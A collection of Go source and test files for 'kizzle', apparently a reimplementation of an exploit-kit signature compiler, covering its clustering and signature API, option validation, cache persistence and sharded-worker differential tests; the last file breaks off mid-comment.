	cfg := synth.DefaultConfig()
	cfg.BenignPerDay = 0
	stream, err := synth.NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	scans := 0
	for _, s := range stream.Day(day) {
		for _, match := range m.Scan(s.Content) {
			if match.Family == "" {
				t.Error("match without family")
			}
			scans++
		}
	}
	if scans == 0 {
		t.Error("Scan never matched same-day kit traffic")
	}
}

// TestMultiMatcherScanAndOptions covers the multi-signature option surface.
func TestMultiMatcherScanAndOptions(t *testing.T) {
	day := august(6)
	cfg := synth.DefaultConfig()
	cfg.BenignPerDay = 0
	stream, err := synth.NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	var docs []string
	for _, s := range stream.Day(day) {
		if s.Family == synth.SweetOrange {
			docs = append(docs, s.Content)
		}
	}
	multi, err := kizzle.GenerateMulti("Sweet Orange", docs,
		kizzle.WithMaxParts(4),
		kizzle.WithPartTokens(6, 120),
		kizzle.WithQuorum(1, 2),
		kizzle.WithMultiSlack(2),
	)
	if err != nil {
		t.Fatal(err)
	}
	if multi.Parts() > 4 {
		t.Errorf("parts = %d, exceeds WithMaxParts", multi.Parts())
	}
	if multi.TokenLength() == 0 {
		t.Error("zero token length")
	}
	mm, err := kizzle.NewMultiMatcher([]kizzle.MultiSignature{multi})
	if err != nil {
		t.Fatal(err)
	}
	fams := mm.Scan(docs[0])
	if len(fams) != 1 || fams[0] != "Sweet Orange" {
		t.Errorf("Scan = %v", fams)
	}
	if fams := mm.Scan("var x = 1;"); len(fams) != 0 {
		t.Errorf("benign Scan = %v", fams)
	}
}
