package kizzle_test

import (
	"net/http/httptest"
	"reflect"
	"testing"

	"kizzle"
	"kizzle/internal/ekit"
	"kizzle/internal/shardcoord"
)

func streamBatch(t testing.TB, day, benign int) []kizzle.Sample {
	t.Helper()
	cfg := ekit.DefaultStreamConfig()
	cfg.BenignPerDay = benign
	stream, err := ekit.NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	var batch []kizzle.Sample
	for _, s := range stream.Day(day) {
		batch = append(batch, kizzle.Sample{ID: s.ID, Content: s.Content})
	}
	return batch
}

func seededCompiler(day int, opts ...kizzle.Option) *kizzle.Compiler {
	c := kizzle.New(opts...)
	for _, fam := range ekit.Families {
		c.AddKnown(fam.String(), ekit.Payload(fam, day-1))
	}
	return c
}

// TestCompilerCachePersistence drives the public persistence API: results
// must be identical across a save/restart/load cycle, and the reloaded
// compiler must be warm.
func TestCompilerCachePersistence(t *testing.T) {
	day := ekit.Date(8, 6)
	batch := streamBatch(t, day, 80)
	dir := t.TempDir()

	first := seededCompiler(day)
	want, err := first.Process(batch)
	if err != nil {
		t.Fatal(err)
	}
	saved, err := first.SaveCache(dir)
	if err != nil {
		t.Fatal(err)
	}
	if saved.Entries == 0 || saved.SkippedEntries > 0 {
		t.Fatalf("save stats: %+v", saved)
	}

	second := seededCompiler(day)
	loaded, err := second.LoadCache(dir)
	if err != nil {
		t.Fatal(err)
	}
	if loaded.Entries != saved.Entries || loaded.CorruptSegments > 0 {
		t.Fatalf("load stats %+v after save stats %+v", loaded, saved)
	}
	got, err := second.Process(batch)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(want.Clusters, got.Clusters) || !reflect.DeepEqual(want.Signatures, got.Signatures) {
		t.Fatal("restarted compiler diverged from original")
	}

	// A compiler with the cache disabled refuses to persist.
	if _, err := kizzle.New(kizzle.WithCacheBytes(-1)).SaveCache(dir); err == nil {
		t.Fatal("SaveCache succeeded without a cache")
	}
}

// TestWithShardWorkers runs the compiler against real kizzleshard worker
// processes (httptest servers over the worker handler) and pins the
// sharded results to the single-process ones.
func TestWithShardWorkers(t *testing.T) {
	day := ekit.Date(8, 7)
	batch := streamBatch(t, day, 80)

	want, err := seededCompiler(day, kizzle.WithPartitionSize(10)).Process(batch)
	if err != nil {
		t.Fatal(err)
	}

	var urls []string
	for i := 0; i < 3; i++ {
		srv := httptest.NewServer(shardcoord.NewWorker(shardcoord.WithWorkerParallelism(2)).Handler())
		defer srv.Close()
		urls = append(urls, srv.URL)
	}
	sharded := seededCompiler(day, kizzle.WithPartitionSize(10), kizzle.WithShardWorkers(urls...))
	got, err := sharded.Process(batch)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(want.Clusters, got.Clusters) {
		t.Fatal("sharded clusters diverge from single-process")
	}
	if !reflect.DeepEqual(want.Signatures, got.Signatures) {
		t.Fatal("sharded signatures diverge from single-process")
	}
	if want.Stats.Partitions < 3 {
		t.Fatalf("only %d partitions; batch too small to exercise 3 workers", want.Stats.Partitions)
	}

	// A fleet that is entirely unreachable must surface an error.
	dead := seededCompiler(day, kizzle.WithShardWorkers("http://127.0.0.1:1/nope"))
	if _, err := dead.Process(batch); err == nil {
		t.Fatal("Process succeeded with unreachable shard workers")
	}
}
