// Differential tests for the fleet-backed, per-family-incremental
// recompilation path: a publisher recompiling on a kizzleshard fleet, with
// a warm content cache and a corpus that mutates between recompiles, must
// produce signature sets byte-identical to a single-process publisher
// following the same trajectory — across shard counts, dispatch modes, and
// corpus-add interleavings. Generation bumps may only change cache
// economics (label sweeps), never labels.
package kizzle_test

import (
	"encoding/json"
	"fmt"
	"net/http/httptest"
	"testing"

	"kizzle"
	"kizzle/internal/shardcoord"
	"kizzle/synth"
)

// startShardFleet launches n shard workers over real HTTP (httptest
// listeners on loopback) and returns their base URLs — exactly what a
// sigserve -shards flag would name. Callers get the full wire path:
// request marshalling, the worker handler's body caps and validation,
// response decoding.
func startShardFleet(tb testing.TB, n int) []string {
	tb.Helper()
	urls := make([]string, n)
	for i := 0; i < n; i++ {
		srv := httptest.NewServer(shardcoord.NewWorker().Handler())
		tb.Cleanup(srv.Close)
		urls[i] = srv.URL
	}
	return urls
}

// signatureJSON serializes a signature set in its deployed form — the
// bytes consumers fetch — for byte-identity comparison.
func signatureJSON(tb testing.TB, sigs []kizzle.Signature) string {
	tb.Helper()
	data, err := json.Marshal(sigs)
	if err != nil {
		tb.Fatal(err)
	}
	return string(data)
}

// publisherDay collects one day's batch from the synthetic stream.
func publisherDay(tb testing.TB, day, benign int) []kizzle.Sample {
	tb.Helper()
	cfg := synth.DefaultConfig()
	cfg.BenignPerDay = benign
	stream, err := synth.NewStream(cfg)
	if err != nil {
		tb.Fatal(err)
	}
	var batch []kizzle.Sample
	for _, s := range stream.Day(day) {
		batch = append(batch, kizzle.Sample{ID: s.ID, Content: s.Content})
	}
	return batch
}

// runTrajectory drives one publisher through the recompile trajectory the
// differential pins: process day 1, bump one family's corpus generation
// with duplicate content, reprocess day 1 (labels must hold), process
// day 2. It returns the signature JSON of each recompile plus the label
// sweep counts.
func runTrajectory(t *testing.T, c *kizzle.Compiler, day int, day1, day2 []kizzle.Sample) (jsons [3]string, sweeps [3]int) {
	t.Helper()
	for _, fam := range synth.Kits() {
		c.AddKnown(fam.String(), synth.Payload(fam, day-1))
	}
	res1, err := c.Process(day1)
	if err != nil {
		t.Fatal(err)
	}
	jsons[0], sweeps[0] = signatureJSON(t, res1.Signatures), res1.Stats.LabelSweeps

	// Duplicate-content corpus bump: RIG's generation moves, its overlaps
	// cannot.
	c.AddKnown(synth.RIG.String(), synth.Payload(synth.RIG, day-1))
	res2, err := c.Process(day1)
	if err != nil {
		t.Fatal(err)
	}
	jsons[1], sweeps[1] = signatureJSON(t, res2.Signatures), res2.Stats.LabelSweeps

	res3, err := c.Process(day2)
	if err != nil {
		t.Fatal(err)
	}
	jsons[2], sweeps[2] = signatureJSON(t, res3.Signatures), res3.Stats.LabelSweeps
	return jsons, sweeps
}

// TestRecompileDifferential pins fleet-backed + incremental recompilation
// against the single-process path: byte-identical signature sets at every
// step of the trajectory, across shard counts and dispatch modes, with
// per-family generation bumps changing only sweep counts.
func TestRecompileDifferential(t *testing.T) {
	day := synth.Date(8, 6)
	day1 := publisherDay(t, day, 30)
	day2 := publisherDay(t, day+1, 30)

	ref, refSweeps := runTrajectory(t, kizzle.New(), day, day1, day2)
	if ref[0] != ref[1] {
		t.Fatal("duplicate-content corpus bump changed the signature set")
	}
	if refSweeps[0] <= refSweeps[1] {
		t.Fatalf("generation bump should cost fewer sweeps than cold: cold=%d bumped=%d",
			refSweeps[0], refSweeps[1])
	}
	if refSweeps[1] == 0 {
		t.Fatal("generation bump produced no re-sweeps — invalidation is not happening")
	}

	for _, shards := range []int{1, 2, 4} {
		for _, dispatch := range []string{"stream", "batch"} {
			t.Run(fmt.Sprintf("shards=%d/dispatch=%s", shards, dispatch), func(t *testing.T) {
				urls := startShardFleet(t, shards)
				opts := []kizzle.Option{kizzle.WithShardWorkers(urls...)}
				if dispatch == "batch" {
					opts = append(opts, kizzle.WithBatchDispatch())
				}
				got, gotSweeps := runTrajectory(t, kizzle.New(opts...), day, day1, day2)
				for i := range got {
					if got[i] != ref[i] {
						t.Fatalf("recompile %d diverged from single-process reference", i)
					}
				}
				// The caching economics are a property of the coordinator-side
				// labeling, so they are identical no matter where clustering ran.
				if gotSweeps != refSweeps {
					t.Fatalf("sweep counts %v diverged from reference %v", gotSweeps, refSweeps)
				}
			})
		}
	}

	// Corpus-add interleaving: seeding the duplicate RIG entry before any
	// processing (instead of between recompiles) must yield the same
	// signature sets — the corpus differs only by duplicate content.
	t.Run("interleaving=pre-seeded", func(t *testing.T) {
		c := kizzle.New()
		c.AddKnown(synth.RIG.String(), synth.Payload(synth.RIG, day-1))
		got, _ := runTrajectory(t, c, day, day1, day2)
		for i := range got {
			if got[i] != ref[i] {
				t.Fatalf("recompile %d diverged under pre-seeded corpus interleaving", i)
			}
		}
	})
}
