// Package kizzle is a signature compiler for detecting exploit kits,
// reproducing the system described in "Kizzle: A Signature Compiler for
// Detecting Exploit Kits" (Stock, Livshits, Zorn — DSN 2016).
//
// Kizzle ingests batches of "grayware" JavaScript/HTML samples, clusters
// them by tokenized structure (DBSCAN over normalized token edit distance),
// labels malicious clusters by unpacking a prototype and winnow-matching it
// against a corpus of known unpacked exploit-kit payloads, and compiles a
// structural regex signature for every malicious cluster. Signatures can be
// deployed with a Matcher (in a browser, on the desktop, or server-side).
//
// Basic usage:
//
//	c := kizzle.New()
//	c.AddKnown("Nuclear", unpackedNuclearPayload)
//	res, err := c.Process(samples)
//	// res.Signatures → deploy:
//	m, err := kizzle.NewMatcher(res.Signatures)
//	if m.Detects(incomingDocument) { block() }
package kizzle

import (
	"encoding/json"
	"errors"
	"fmt"

	"kizzle/internal/pipeline"
	"kizzle/internal/siggen"
	"kizzle/internal/sigmatch"
)

// Sample is one input document.
type Sample struct {
	// ID identifies the sample in results.
	ID string
	// Content is a full HTML document (inline scripts are extracted) or
	// raw JavaScript.
	Content string
}

// Option configures a Compiler.
type Option func(*pipeline.Config)

// WithWorkers sets clustering parallelism (default: GOMAXPROCS).
func WithWorkers(n int) Option {
	return func(c *pipeline.Config) { c.Workers = n }
}

// WithEps sets the normalized token-edit-distance clustering threshold
// (default 0.10, the paper's empirically determined value).
func WithEps(eps float64) Option {
	return func(c *pipeline.Config) { c.Eps = eps }
}

// WithMinPts sets DBSCAN's minimum (weighted) neighborhood size.
func WithMinPts(n int) Option {
	return func(c *pipeline.Config) { c.MinPts = n }
}

// WithThreshold sets the family-specific labeling threshold: the minimum
// winnow overlap between a cluster's unpacked prototype and the known
// corpus required to label the cluster with that family.
func WithThreshold(family string, threshold float64) Option {
	return func(c *pipeline.Config) {
		if c.Thresholds == nil {
			c.Thresholds = make(map[string]float64)
		}
		c.Thresholds[family] = threshold
	}
}

// WithDefaultThreshold sets the labeling threshold for families without a
// family-specific one.
func WithDefaultThreshold(threshold float64) Option {
	return func(c *pipeline.Config) { c.DefaultThreshold = threshold }
}

// WithSignatureTokens bounds the common-token-run search: signatures
// shorter than min tokens are discarded, and the search is capped at max
// tokens (the paper caps at 200).
func WithSignatureTokens(min, max int) Option {
	return func(c *pipeline.Config) {
		c.Signature.MinTokens = min
		c.Signature.MaxTokens = max
	}
}

// WithSignatureSlack widens inferred class length bounds by n characters
// each way. The paper's algorithm uses the exactly observed lengths
// (slack 0) and relies on daily regeneration; positive slack makes
// signatures more robust across days at a small precision cost.
func WithSignatureSlack(n int) Option {
	return func(c *pipeline.Config) { c.Signature.LengthSlack = n }
}

// WithPartitionSize sets the target number of unique token sequences per
// clustering partition.
func WithPartitionSize(n int) Option {
	return func(c *pipeline.Config) { c.PartitionSize = n }
}

// Compiler is the Kizzle signature compiler.
type Compiler struct {
	cfg    pipeline.Config
	corpus *pipeline.Corpus
}

// New builds a Compiler with the paper's default parameters.
func New(opts ...Option) *Compiler {
	cfg := pipeline.DefaultConfig()
	for _, opt := range opts {
		opt(&cfg)
	}
	return &Compiler{
		cfg:    cfg,
		corpus: pipeline.NewCorpus(cfg.Winnow, 64),
	}
}

// AddKnown seeds the known-malware corpus with a labeled unpacked payload.
// Kizzle must be seeded with at least one sample per kit it should track.
func (c *Compiler) AddKnown(family, unpackedPayload string) {
	c.corpus.Add(family, unpackedPayload)
}

// KnownFamilies lists the seeded family labels.
func (c *Compiler) KnownFamilies() []string { return c.corpus.Families() }

// Cluster is one cluster of structurally similar samples.
type Cluster struct {
	// SampleIDs are the IDs of the samples in the cluster.
	SampleIDs []string
	// Family is the kit label, or "" if the cluster is benign.
	Family string
	// Overlap is the winnow overlap behind the label.
	Overlap float64
	// Unpacked is the decoded payload of the cluster prototype.
	Unpacked string
	// SignatureIndex points into Result.Signatures (-1 if none).
	SignatureIndex int
}

// Signature is a compiled structural signature.
type Signature struct {
	inner siggen.Signature
}

// Family returns the kit the signature detects.
func (s Signature) Family() string { return s.inner.Family }

// Regex renders the signature in the AV-deployable dialect of Figure 10
// (named groups and back-references included).
func (s Signature) Regex() string { return s.inner.Regex() }

// TokenLength is the signature length in tokens.
func (s Signature) TokenLength() int { return s.inner.TokenLength() }

// Length is the signature length in characters of the rendered regex (the
// quantity plotted in Figure 12).
func (s Signature) Length() int { return s.inner.Length() }

// MarshalJSON serializes the signature in its structural form, so stored
// signature databases survive round trips (the regex rendering alone would
// lose the back-reference semantics for Go consumers).
func (s Signature) MarshalJSON() ([]byte, error) { return json.Marshal(s.inner) }

// UnmarshalJSON restores a serialized signature; validity is checked when
// it is compiled into a Matcher.
func (s *Signature) UnmarshalJSON(data []byte) error { return json.Unmarshal(data, &s.inner) }

// Result is the output of Process.
type Result struct {
	// Clusters are all clusters found, benign ones included.
	Clusters []Cluster
	// Signatures are the compiled signatures for malicious clusters.
	Signatures []Signature
	// Stats carries per-stage processing statistics.
	Stats Stats
}

// Stats summarizes one Process run.
type Stats struct {
	Samples           int
	UniqueSequences   int
	Partitions        int
	Clusters          int
	MaliciousClusters int
}

// Process clusters, labels, and signs one batch of samples.
func (c *Compiler) Process(samples []Sample) (*Result, error) {
	inputs := make([]pipeline.Input, len(samples))
	for i, s := range samples {
		inputs[i] = pipeline.Input{ID: s.ID, Content: s.Content}
	}
	pres, err := pipeline.Process(inputs, c.corpus, c.cfg)
	if err != nil {
		if errors.Is(err, pipeline.ErrNoInputs) {
			return nil, fmt.Errorf("kizzle: %w", err)
		}
		return nil, fmt.Errorf("kizzle: process: %w", err)
	}

	out := &Result{
		Stats: Stats{
			Samples:           pres.Stats.Samples,
			UniqueSequences:   pres.Stats.UniqueSequences,
			Partitions:        pres.Stats.Partitions,
			Clusters:          pres.Stats.Clusters,
			MaliciousClusters: pres.Stats.Malicious,
		},
	}
	out.Signatures = make([]Signature, len(pres.Signatures))
	for i, sig := range pres.Signatures {
		out.Signatures[i] = Signature{inner: sig}
	}
	out.Clusters = make([]Cluster, len(pres.Clusters))
	for i, cl := range pres.Clusters {
		ids := make([]string, len(cl.Samples))
		for j, si := range cl.Samples {
			ids[j] = samples[si].ID
		}
		out.Clusters[i] = Cluster{
			SampleIDs:      ids,
			Family:         cl.Label,
			Overlap:        cl.Overlap,
			Unpacked:       cl.Unpacked,
			SignatureIndex: cl.SignatureIndex,
		}
	}
	return out, nil
}

// Match is one signature hit.
type Match struct {
	// Family is the detected kit.
	Family string
	// TokenOffset is the match position in the token stream.
	TokenOffset int
}

// Matcher is a deployed signature set — the consumer side of the AV
// distribution channel.
type Matcher struct {
	scanner *sigmatch.Scanner
}

// NewMatcher compiles signatures for scanning.
func NewMatcher(sigs []Signature) (*Matcher, error) {
	inner := make([]siggen.Signature, len(sigs))
	for i, s := range sigs {
		inner[i] = s.inner
	}
	scanner, err := sigmatch.NewScanner(inner)
	if err != nil {
		return nil, fmt.Errorf("kizzle: compile signatures: %w", err)
	}
	return &Matcher{scanner: scanner}, nil
}

// Add deploys one more signature.
func (m *Matcher) Add(sig Signature) error {
	if err := m.scanner.Add(sig.inner); err != nil {
		return fmt.Errorf("kizzle: add signature: %w", err)
	}
	return nil
}

// Len reports the number of deployed signatures.
func (m *Matcher) Len() int { return m.scanner.Len() }

// Scan returns all signature matches in a document.
func (m *Matcher) Scan(doc string) []Match {
	hits := m.scanner.Scan(doc)
	out := make([]Match, len(hits))
	for i, h := range hits {
		out[i] = Match{Family: h.Family, TokenOffset: h.TokenOffset}
	}
	return out
}

// ScanAll scans a batch of documents concurrently (tokenization included)
// and returns per-document matches aligned with the input. This is the
// entry point for bulk deployment channels — CDN admission queues, scan
// APIs — where per-document goroutine handoff would dominate.
func (m *Matcher) ScanAll(docs []string) [][]Match {
	raw := m.scanner.ScanDocuments(docs)
	out := make([][]Match, len(raw))
	for i, hits := range raw {
		if len(hits) == 0 {
			continue
		}
		converted := make([]Match, len(hits))
		for j, h := range hits {
			converted[j] = Match{Family: h.Family, TokenOffset: h.TokenOffset}
		}
		out[i] = converted
	}
	return out
}

// Detects reports whether any signature matches the document.
func (m *Matcher) Detects(doc string) bool { return m.scanner.Detects(doc) }
