package kizzle

import (
	"encoding/json"
	"errors"
	"fmt"
	"strings"

	"kizzle/internal/contentcache"
	"kizzle/internal/ingest"
	"kizzle/internal/jstoken"
	"kizzle/internal/pipeline"
	"kizzle/internal/shardcoord"
	"kizzle/internal/siggen"
	"kizzle/internal/sigmatch"
	"kizzle/internal/zerocopy"
)

// Sample is one input document.
type Sample struct {
	// ID identifies the sample in results.
	ID string
	// Content is a full HTML document (inline scripts are extracted) or
	// raw JavaScript.
	Content string
}

// Option configures a Compiler.
//
// Options validate their arguments: an out-of-range value (a negative
// worker count, a zero partition fanout, an empty shard URL, an unknown
// ingest profile) is recorded as a configuration fault instead of being
// silently clamped, and the first Process call on the misconfigured
// Compiler returns an error naming every faulty option.
type Option func(*pipeline.Config)

// fault records one option-validation failure on the config.
func fault(c *pipeline.Config, format string, args ...any) {
	c.Faults = append(c.Faults, fmt.Sprintf(format, args...))
}

// WithProfile selects the ingest profile — the tokenizer, streaming
// symbol lexer, unpacker, and abstraction alphabet the front half of the
// pipeline runs on. "js" (the default) is the paper's JavaScript
// exploit-kit front-end; "webkit" ingests HTML/PHP/JS web phishing-kit
// bundles. An unrecognized identifier is a configuration fault.
func WithProfile(id string) Option {
	return func(c *pipeline.Config) {
		p, ok := ingest.Lookup(id)
		if !ok {
			fault(c, "WithProfile: unknown ingest profile %q (registered: %s)", id, strings.Join(ingest.IDs(), ", "))
			return
		}
		c.Profile = p
	}
}

// Profiles lists the registered ingest profile identifiers, sorted —
// the valid arguments to WithProfile. Commands use it to validate
// -profile flags before constructing a compiler.
func Profiles() []string { return ingest.IDs() }

// WithWorkers sets clustering parallelism (default: GOMAXPROCS; 0 keeps
// the default). A negative count is a configuration fault.
func WithWorkers(n int) Option {
	return func(c *pipeline.Config) {
		if n < 0 {
			fault(c, "WithWorkers: negative worker count %d", n)
			return
		}
		c.Workers = n
	}
}

// WithEps sets the normalized token-edit-distance clustering threshold
// (default 0.10, the paper's empirically determined value). The distance
// is normalized to [0, 1], so eps outside (0, 1] is a configuration
// fault.
func WithEps(eps float64) Option {
	return func(c *pipeline.Config) {
		if eps <= 0 || eps > 1 {
			fault(c, "WithEps: threshold %g outside (0, 1]", eps)
			return
		}
		c.Eps = eps
	}
}

// WithMinPts sets DBSCAN's minimum (weighted) neighborhood size (0 keeps
// the default of 2). A negative value is a configuration fault.
func WithMinPts(n int) Option {
	return func(c *pipeline.Config) {
		if n < 0 {
			fault(c, "WithMinPts: negative neighborhood size %d", n)
			return
		}
		c.MinPts = n
	}
}

// WithThreshold sets the family-specific labeling threshold: the minimum
// winnow overlap between a cluster's unpacked prototype and the known
// corpus required to label the cluster with that family. An empty family
// name or a negative threshold is a configuration fault; thresholds
// above 1 are permitted (they make the family unlabelable, which tests
// use deliberately).
func WithThreshold(family string, threshold float64) Option {
	return func(c *pipeline.Config) {
		if family == "" {
			fault(c, "WithThreshold: empty family name")
			return
		}
		if threshold < 0 {
			fault(c, "WithThreshold(%q): negative threshold %g", family, threshold)
			return
		}
		if c.Thresholds == nil {
			c.Thresholds = make(map[string]float64)
		}
		c.Thresholds[family] = threshold
	}
}

// WithDefaultThreshold sets the labeling threshold for families without a
// family-specific one. A negative threshold is a configuration fault.
func WithDefaultThreshold(threshold float64) Option {
	return func(c *pipeline.Config) {
		if threshold < 0 {
			fault(c, "WithDefaultThreshold: negative threshold %g", threshold)
			return
		}
		c.DefaultThreshold = threshold
	}
}

// WithSignatureTokens bounds the common-token-run search: signatures
// shorter than min tokens are discarded, and the search is capped at max
// tokens (the paper caps at 200). min below 1 or max below min is a
// configuration fault.
func WithSignatureTokens(min, max int) Option {
	return func(c *pipeline.Config) {
		if min < 1 || max < min {
			fault(c, "WithSignatureTokens: invalid bounds [%d, %d]", min, max)
			return
		}
		c.Signature.MinTokens = min
		c.Signature.MaxTokens = max
	}
}

// WithSignatureSlack widens inferred class length bounds by n characters
// each way. The paper's algorithm uses the exactly observed lengths
// (slack 0) and relies on daily regeneration; positive slack makes
// signatures more robust across days at a small precision cost. Negative
// slack is a configuration fault.
func WithSignatureSlack(n int) Option {
	return func(c *pipeline.Config) {
		if n < 0 {
			fault(c, "WithSignatureSlack: negative slack %d", n)
			return
		}
		c.Signature.LengthSlack = n
	}
}

// WithPartitionSize sets the target number of unique token sequences per
// clustering partition (0 keeps the default of 300). A negative size is
// a configuration fault.
func WithPartitionSize(n int) Option {
	return func(c *pipeline.Config) {
		if n < 0 {
			fault(c, "WithPartitionSize: negative partition size %d", n)
			return
		}
		c.PartitionSize = n
	}
}

// WithPartitionFanout sets how many partitions fill concurrently during
// streaming dedup (default 8). New unique shapes scatter round-robin
// across the open partitions — the streaming stand-in for the paper's
// random partitioning — so one family's consecutive variants spread out
// instead of piling into one partition. A fanout below 1 is a
// configuration fault.
func WithPartitionFanout(n int) Option {
	return func(c *pipeline.Config) {
		if n < 1 {
			fault(c, "WithPartitionFanout: fanout %d below 1", n)
			return
		}
		c.PartitionFanout = n
	}
}

// WithNoiseChunk bounds the reduce step's global noise re-clustering: a
// pooled noise set larger than n is split into chunks of at most n unique
// sequences, ordered by content digest, and each chunk is swept
// independently — the quadratic sweep cost drops from pool² to
// chunks·n², at the documented cost that cross-chunk noise pairs are not
// tested (straggler adoption still sees the full pool). Chunk membership
// is a pure function of content, so output stays independent of shard
// count and scheduling. 0 (the default) disables chunking and keeps the
// MaxNoiseRecluster skip-entirely behavior for oversized pools. A
// negative chunk size is a configuration fault.
func WithNoiseChunk(n int) Option {
	return func(c *pipeline.Config) {
		if n < 0 {
			fault(c, "WithNoiseChunk: negative chunk size %d", n)
			return
		}
		c.NoiseChunk = n
	}
}

// WithBatchDispatch disables streaming dispatch: clustering partitions
// are collected and dispatched in one batch after dedup completes, and
// the reduce step's distance sweeps stay on the coordinator (the
// protocol-v1 cost model). Output is identical to streaming; the knob
// exists for profiling A/B runs and fleets of pre-v2 workers.
func WithBatchDispatch() Option {
	return func(c *pipeline.Config) { c.BatchDispatch = true }
}

// WithCoordinatorPreReduce keeps the per-partition pre-reduce on the
// coordinator instead of asking shard workers for it. Output is
// identical; use it to shift CPU off busy workers.
func WithCoordinatorPreReduce() Option {
	return func(c *pipeline.Config) { c.DisableShardPreReduce = true }
}

// WithCacheBytes bounds the compiler's content-addressed cache, which
// persists across Process calls so a day's batch pays only for content not
// seen on previous days (tokenization, unpacking, and fingerprinting are
// all content-keyed). 0 keeps the 64 MiB default; negative disables the
// persistent cache (each batch then uses a transient one).
func WithCacheBytes(n int) Option {
	return func(c *pipeline.Config) {
		if n < 0 {
			c.Cache = nil
			return
		}
		c.Cache = contentcache.New(n)
	}
}

// WithShardWorkers dispatches the clustering stage to remote shard
// workers (cmd/kizzleshard processes) at the given base URLs — the
// paper's 50-machine layout. Partitions stream to the fleet while this
// process is still deduplicating (protocol v2), each worker pre-reduces
// its partitions, and the reduce step's distance sweeps fan out as edge
// jobs; only abstract symbol sequences travel, raw documents never leave
// this process. On workers running with a resident set (kizzleshard
// -residentmb), edge jobs are routed to the shard already holding their
// sequences and ship 20-byte content keys instead of sequence bytes
// (protocol v3, negotiated per worker — mixed fleets degrade gracefully
// to v2). Output is identical to single-process operation. An empty URL
// list keeps clustering in-process; an empty string within a non-empty
// list is a configuration fault.
func WithShardWorkers(urls ...string) Option {
	return func(c *pipeline.Config) {
		for i, u := range urls {
			if u == "" {
				fault(c, "WithShardWorkers: empty URL at position %d", i)
				return
			}
		}
		// The coordinator is constructed by New after all options are
		// applied, so WithoutShardAffinity / WithScheduleSeed compose with
		// the fleet regardless of option order.
		c.ShardWorkers = append([]string(nil), urls...)
		if len(urls) == 0 {
			c.Clusterer = nil
		}
	}
}

// WithoutShardAffinity disables the shard coordinator's locality layer —
// affinity-routed edge jobs and the digest-first v3 wire — so every edge
// job ships its sequences inline and is scheduled purely by the pull
// queue. Output is identical either way; the knob exists as a
// differential-testing lever and as one of the certification verifier's
// path-diversity axes. No effect without WithShardWorkers.
func WithoutShardAffinity() Option {
	return func(c *pipeline.Config) { c.ShardNoAffinity = true }
}

// WithScheduleSeed runs the compile through a seeded alternative schedule:
// the streamed reduce sweeps' edge jobs are composed from a permuted row
// order and the shard coordinator's pull-queue assignment is relabeled
// through a seeded permutation. Both levers are provably output-invariant
// (every unordered pair lands in exactly one edge job, final pair lists
// are sorted, and fleet results are matched by sequence number), so two
// compiles that differ only in seed must produce bit-identical signature
// sets — the diversity knob behind dual-path publish certification. 0
// (the default) keeps the canonical schedule.
func WithScheduleSeed(seed int64) Option {
	return func(c *pipeline.Config) { c.ScheduleSeed = seed }
}

// Compiler is the Kizzle signature compiler.
type Compiler struct {
	cfg    pipeline.Config
	corpus *pipeline.Corpus
}

// defaultMaxPerFamily bounds the known-malware corpus per family. New and
// ResetKnown must agree on it: corpus generations are content-derived, so
// a long-lived publisher's rebuilt corpus and a restarted process's fresh
// one only compute equal generations if they evict identically.
const defaultMaxPerFamily = 64

// New builds a Compiler with the paper's default parameters. The compiler
// carries a content-addressed cache across Process calls (see
// WithCacheBytes), so consecutive daily batches only pay for new content.
func New(opts ...Option) *Compiler {
	cfg := pipeline.DefaultConfig()
	cfg.Cache = contentcache.New(0)
	for _, opt := range opts {
		opt(&cfg)
	}
	if cfg.Clusterer == nil && len(cfg.ShardWorkers) > 0 {
		var copts []shardcoord.CoordinatorOption
		if cfg.ShardNoAffinity {
			copts = append(copts, shardcoord.WithoutAffinity())
		}
		if cfg.ScheduleSeed != 0 {
			copts = append(copts, shardcoord.WithSchedulePermutation(cfg.ScheduleSeed))
		}
		cfg.Clusterer = shardcoord.NewCoordinator(shardcoord.NewHTTPTransport(cfg.ShardWorkers, nil), copts...)
	}
	return &Compiler{
		cfg:    cfg,
		corpus: pipeline.NewCorpus(cfg.Winnow, defaultMaxPerFamily),
	}
}

// CachePersistStats summarizes a persistent-cache save or load.
type CachePersistStats struct {
	// Entries is the number of cache entries written or restored.
	Entries int
	// Segments is the number of snapshot segment files involved.
	Segments int
	// CorruptSegments counts snapshot segments skipped on load for
	// checksum mismatch or truncation (always 0 on save).
	CorruptSegments int
	// SkippedEntries counts entries dropped individually (no codec,
	// failed verification); a lossy load degrades to a colder cache,
	// never to wrong answers.
	SkippedEntries int
}

// ErrNoCache is returned by SaveCache / LoadCache when the compiler's
// persistent cache was disabled via WithCacheBytes(-1).
var ErrNoCache = errors.New("kizzle: compiler has no cache to persist")

// SaveCache snapshots the compiler's content-addressed cache to dir, so a
// restarted process (see LoadCache) keeps the day-over-day economics: a
// day N+1 batch after a restart still pays only for content unseen on day
// N. Safe to call between Process calls; the snapshot replaces any
// previous one in dir.
func (c *Compiler) SaveCache(dir string) (CachePersistStats, error) {
	if c.cfg.Cache == nil {
		return CachePersistStats{}, ErrNoCache
	}
	st, err := c.cfg.Cache.Save(dir, pipeline.CacheCodecs())
	return CachePersistStats{Entries: st.Entries, Segments: st.Segments, SkippedEntries: st.Skipped}, err
}

// LoadCache restores a cache snapshot previously written by SaveCache
// into the compiler's cache (within its configured byte budget). Corrupt
// segments and stale entries are skipped, not fatal — a damaged snapshot
// simply yields a colder cache.
func (c *Compiler) LoadCache(dir string) (CachePersistStats, error) {
	if c.cfg.Cache == nil {
		return CachePersistStats{}, ErrNoCache
	}
	st, err := contentcache.LoadInto(c.cfg.Cache, dir, pipeline.CacheCodecs())
	return CachePersistStats{
		Entries:         st.Entries,
		Segments:        st.Segments,
		CorruptSegments: st.CorruptSegments,
		SkippedEntries:  st.SkippedEntries,
	}, err
}

// AddKnown seeds the known-malware corpus with a labeled unpacked payload.
// Kizzle must be seeded with at least one sample per kit it should track.
func (c *Compiler) AddKnown(family, unpackedPayload string) {
	c.corpus.Add(family, unpackedPayload)
}

// ResetKnown clears the known-malware corpus so it can be reseeded from
// scratch — publishers rebuild it whenever their known payload files
// change, keeping the corpus a pure function of the current file set (a
// retracted payload must actually go away, which Add alone cannot do).
// The reset is cheap for label caching: family generations are derived
// from contents, so families reseeded with identical payloads keep their
// generation and their cached label verdicts stay valid.
